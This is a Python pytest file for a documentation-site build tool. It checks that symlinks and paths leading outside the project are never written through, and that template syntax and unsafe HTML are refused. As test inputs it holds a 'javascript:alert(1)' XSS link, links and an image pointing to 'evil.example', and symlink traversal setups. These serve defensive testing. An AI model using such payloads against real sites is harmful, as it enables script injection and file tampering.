def test_nothing_is_written_outside_the_folder_named(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside, inside = project / "outside", project / "inside"
    outside.mkdir()
    inside.mkdir()
    (inside / "risks").symlink_to(outside)
    assert main(["--project", str(project), "pages", str(inside)]) == 1
    assert "is a link to another place" in capsys.readouterr().err
    assert list(outside.iterdir()) == []


def test_a_generated_file_that_is_a_link_is_not_written_through(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    precious = project.parent / f"{project.name}-precious"
    precious.write_text(SECRET, encoding="utf-8")
    fields = project / "docs" / "contribute" / "fields.md"
    fields.unlink()
    fields.symlink_to(precious)
    assert main(["--project", str(project), "schema"]) == 1
    assert "is a link to another place" in capsys.readouterr().err
    assert precious.read_text(encoding="utf-8") == SECRET


def test_a_schema_that_is_a_link_inside_the_project_is_not_written_through(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hooks = project / "macros" / "hooks.py"
    before = hooks.read_text(encoding="utf-8")
    (project / "data" / "schemas").mkdir()
    (project / "data" / "schemas" / "risk.json").symlink_to("../../macros/hooks.py")
    assert main(["--project", str(project), "schema"]) == 1
    assert "risk.json is a link to another place" in capsys.readouterr().err
    assert hooks.read_text(encoding="utf-8") == before


def test_a_page_is_looked_at_once_more_before_a_template_engine_runs_it(project: Path) -> None:
    page = SimpleNamespace(file=SimpleNamespace(generated_by=None, src_uri="about.md"))
    config = load_config(str(project / "mkdocs.yml"))
    with pytest.raises(Abort, match="'{{' is not allowed"):
        on_page_markdown("Words {{ page.render() }}", page, config, Files([]))  # type: ignore[arg-type]


def test_where_nothing_is_written_a_sentence_says_why(tmp_path: Path) -> None:
    (tmp_path / "inside" / "folder").mkdir(parents=True)
    (tmp_path / "inside" / "link").symlink_to(tmp_path)
    inside = tmp_path / "inside"
    reasons = {
        inside / ".." / "x": f"{inside}/../x leads out of {inside}; nothing was written there",
        tmp_path / "x": f"{tmp_path}/x leads out of {inside}; nothing was written there",
        inside / "link" / "x": f"{inside}/link is a link to another place; nothing was written there",
        inside / "folder": f"{inside}/folder is a folder; a file was expected, and nothing was written",
    }
    for path, reason in reasons.items():
        with pytest.raises(Unwritable) as refused:
            write_inside(inside, path, "text")
        assert str(refused.value) == reason
    assert sorted(path.name for path in tmp_path.rglob("*")) == ["folder", "inside", "link"]


def test_a_feed_that_is_a_link_is_not_written_through(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    precious = project.parent / f"{project.name}-precious"
    precious.write_text(SECRET, encoding="utf-8")
    (project / "built").mkdir()
    (project / "built" / "feed.xml").symlink_to(precious)
    command = [
        "--project",
        str(project),
        "export",
        str(project / "built"),
        "--title",
        "T",
        "--url",
        "https://a.b/",
    ]
    assert main(command) == 1
    assert "feed.xml is a link to another place" in capsys.readouterr().err
    assert precious.read_text(encoding="utf-8") == SECRET


def test_what_a_generator_made_of_a_page_is_judged_before_it_is_published(project: Path) -> None:
    file = SimpleNamespace(generated_by=None, src_uri="about.md")
    page = SimpleNamespace(file=file, present_anchor_ids=None)
    config = load_config(str(project / "mkdocs.yml"))
    for html, message in (
        ('<p><a href="javascript:alert(1)">x</a></p>', "link target 'javascript:alert"),
        ('<p><img src="https://evil.example/i.png"></p>', "the element 'img' is not allowed"),
        ('<p><a href="//evil.example/">x</a></p>', "link target '//evil.example/'"),
    ):
        with pytest.raises(Abort, match=message):
            on_page_content(html, page, config, Files([]))  # type: ignore[arg-type]
    fine = '<p><a href="../risks/">x</a> <a href="#y">z</a> <a href="https://a.example/">b</a></p>'
    assert on_page_content(fine, page, config, Files([])) == fine  # type: ignore[arg-type]


def test_a_heading_does_not_take_the_anchor_of_an_entry(project: Path) -> None:
    glossary = project / "docs" / "glossary.md"
    text = glossary.read_text(encoding="utf-8")
    glossary.write_text(text.replace("{{ part", "## SIM swap\n\nMy words.\n\n{{ part"), encoding="utf-8")
    command = [sys.executable, "-m", "mkdocs", "build"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "docs/glossary.md: a heading has the anchor 'sim-swap', which an entry needs" in (
        done.stdout + done.stderr
    )


def test_a_letter_that_only_looks_alike_ends_no_build(project: Path) -> None:
    change("data/terms/sim-swap.yml", "means: ", "means: A \u017fIM swap, or a s\u0131m swap. ")(project)
    change(
        "data/risks/sim-swap.yml",
        "  The thief never",
        "  The \u017fIM swap, or s\u0131m swap. The thief never",
    )(project)
    command = [sys.executable, "-m", "mkdocs", "build"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_build_does_not_empty_a_folder_behind_a_link(project: Path) -> None:
    precious = project.parent / f"{project.name}-precious"
    precious.mkdir()
    (precious / "file").write_text(SECRET, encoding="utf-8")
    (project / "site").symlink_to(precious)
    command = [sys.executable, "-m", "mkdocs", "build"]
    done = subprocess.run(command, cwd=project, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "site is a link to another place" in done.stdout + done.stderr
    assert [path.name for path in precious.iterdir()] == ["file"]


def test_a_file_no_editor_shows_turns_nothing_red(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for place in ("data/risks/.DS_Store", "data/risks/.x.yml.swp", "docs/.DS_Store"):
        (project / place).write_text("x", encoding="utf-8")
    lead_home(project / "docs")
    main(["--project", str(project), "schema"])
    assert main(["--project", str(project), "check"]) == 0, capsys.readouterr().err


def test_a_link_to_a_page_or_anchor_that_is_missing_is_named_with_the_nearest(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lead_home(project / "docs")
    main(["--project", str(project), "schema"])
    (project / "docs" / "about.md").write_text(
        "---\ntitle: About\ndescription: About this book.\n---\n\n## Which product is meant\n\n"
        "[a](risks/sim-swap.md), [b](risks/sim-swp.md), [c](#which-product-is-meant),\n"
        "[d](index.md#your-dor), [e](regulations/eu-gdpr.md#eu-gdpr-33), [f](regulations/eu-gdpr.md#eu-gdpr-34),\n"
        "[g](glossary.md#sim-swap) and [h](risks/index.md#danger-sim-swpa).\n",
        encoding="utf-8",
    )
    capsys.readouterr()
    assert main(["--project", str(project), "check"]) == 1
    assert capsys.readouterr().err.splitlines()[:-1] == [
        "docs/about.md:8:29: no page 'risks/sim-swp.md'; did you mean 'risks/sim-swap.md'?",
        "docs/about.md:9:5: no anchor 'your-dor' on index.md; did you mean 'your-door'?",
        "docs/about.md:9:69: no anchor 'eu-gdpr-34' on regulations/eu-gdpr.md; did you mean 'eu-gdpr-33'?",
        "docs/about.md:10:35: no anchor 'danger-sim-swpa' on risks/index.md; did you mean 'danger-sim-swap'?",
    ]
